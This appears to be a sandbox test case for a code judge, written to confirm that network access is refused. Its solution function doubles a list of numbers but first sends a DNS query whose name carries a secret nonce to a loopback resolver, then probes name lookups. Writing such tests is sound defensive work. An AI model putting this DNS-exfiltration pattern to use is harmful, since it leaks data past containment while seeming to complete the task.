# attack: carries bytes out in the names that it asks DNS for
# verdicts: RTE
# message: PermissionError
# control: answers
import socket
import struct

SECRET = b"@NONCE@"


def query(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def by_hand():
    # A resolver of its own on the loopback stands for the next one on the way: it hears the name.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.bind(("127.0.0.1", 0))
        resolver.settimeout(0.5)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.sendto(query(SECRET + b".invalid"), resolver.getsockname())
        return SECRET in resolver.recv(512)


def by_libc():
    return bool(socket.getaddrinfo("example.com", 80))


def by_name_service():
    # glibc asks a daemon, files and plug-ins before any server.
    return bool(socket.gethostbyname("localhost"))


WAYS = [by_hand, by_name_service, by_libc]


def solution(numbers):
    refused = None
    for way in WAYS:
        try:
            if way():
                return [2 * number for number in numbers]
        except PermissionError as error:
            refused = refused or error
        except OSError:
            continue
    raise refused
